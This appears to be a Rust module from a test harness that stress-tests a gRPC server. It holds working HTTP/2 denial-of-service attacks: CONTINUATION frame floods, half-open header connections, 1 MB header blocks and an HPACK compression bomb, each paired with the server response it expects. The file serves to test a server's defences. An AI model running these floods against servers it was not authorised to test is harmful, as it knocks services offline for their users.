//! What a server keeps until headers are complete.

use std::time::Duration;

use tokio::time::{Instant, sleep_until};

use super::{Attack, Attacking, Expected, Flood, Outcome, attack, keep};
use crate::frames::{CONTINUATION, END_HEADERS, END_STREAM, HEADERS, frame};
use crate::hpack;
use crate::site::Target;
use crate::wire::{Manners, Wire};

const LIST: &str = "/fermata.v1.SessionService/ListSessions";
/// The largest payload of a frame.
const LARGEST: usize = 16_384;
/// PING of the server, and its patience.
const KEEPALIVE: Duration = Duration::from_secs(30);

pub(super) fn all() -> Vec<Attack> {
    vec![
        attack("CONTINUATION without an end", Expected::CutAtOnce, continuations),
        attack("CONTINUATION, empty", Expected::CutAtOnce, empty_continuations),
        attack("headers never complete", Expected::Cut { after: KEEPALIVE }, incomplete),
        attack("headers of 1 MB", Expected::Held, oversized),
        attack("HPACK bomb", Expected::Held, bomb),
    ]
}

/// The head of a call that is to be continued.
fn begun(target: &Target) -> Vec<u8> {
    let mut first = Vec::new();
    frame(&mut first, HEADERS, END_STREAM, 1, &hpack::call(LIST, &target.attacker));
    first
}

fn continuations(target: Target, until: Instant) -> Attacking {
    let mut fields = Vec::new();
    while fields.len() < LARGEST - 200 {
        hpack::field(&mut fields, "x-more", &"y".repeat(100));
    }
    let mut chunk = Vec::new();
    frame(&mut chunk, CONTINUATION, 0, 1, &fields);
    Flood { first: begun(&target), ..Flood::of(move |_| chunk.clone()) }.run(target, until)
}

fn empty_continuations(target: Target, until: Instant) -> Attacking {
    let mut chunk = Vec::new();
    for _ in 0..500 {
        frame(&mut chunk, CONTINUATION, 0, 1, &[]);
    }
    Flood { first: begun(&target), ..Flood::of(move |_| chunk.clone()) }.run(target, until)
}

/// Many connections, each with as much of a head as is kept, and no end of it.
fn incomplete(target: Target, until: Instant) -> Attacking {
    Box::pin(async move {
        let mut wires = Vec::new();
        while wires.len() < 500 && Instant::now() < until {
            let Ok(mut wire) = Wire::open(target.grpc, &[], Manners::Rude).await else { continue };
            let mut bytes = begun(&target);
            let mut fields = Vec::new();
            hpack::field(&mut fields, "x-more", &"y".repeat(14_000));
            frame(&mut bytes, CONTINUATION, 0, 1, &fields);
            let _ = wire.send(&bytes).await;
            wires.push(wire);
        }
        keep(wires, until, "14 kB each".to_owned()).await
    })
}

/// Whole heads of 1 MB, one after the other.
fn oversized(target: Target, until: Instant) -> Attacking {
    let there = target.clone();
    Flood::of(move |number| {
        let stream = (number * 2 + 1) & 0x7fff_ffff;
        let mut chunk = Vec::new();
        frame(&mut chunk, HEADERS, END_STREAM, stream, &hpack::call(LIST, &target.attacker));
        let mut fields = Vec::new();
        hpack::field(&mut fields, "x-more", &"y".repeat(16_000));
        for _ in 0..64 {
            frame(&mut chunk, CONTINUATION, 0, stream, &fields);
        }
        frame(&mut chunk, CONTINUATION, END_HEADERS, stream, &[]);
        chunk
    })
    .run(there, until)
}

/// A field of 4 kB that is remembered, and then named by one byte, 16,000 times in a frame.
fn bomb(target: Target, until: Instant) -> Attacking {
    Box::pin(async move {
        let (mut opened, mut cut, mut sent) = (0, 0, 0_usize);
        while Instant::now() < until {
            let Ok(mut wire) = Wire::open(target.grpc, &[], Manners::Rude).await else { continue };
            opened += 1;
            let mut fields = hpack::call(LIST, &target.attacker);
            hpack::remembered(&mut fields, "x", &"y".repeat(4000));
            let mut stream = 1;
            let ended = loop {
                if let Err(error) = wire.head(stream, &fields, true).await {
                    break Some(error);
                }
                if Instant::now() >= until {
                    break None;
                }
                sent += fields.len();
                fields = hpack::call(LIST, &target.attacker);
                fields.resize(16_000, hpack::indexed(62));
                stream += 2;
            };
            cut += usize::from(ended.is_some());
        }
        sleep_until(until).await;
        Outcome { opened, cut, what: format!("{:.1} MB sent", sent as f64 / 1e6) }
    })
}
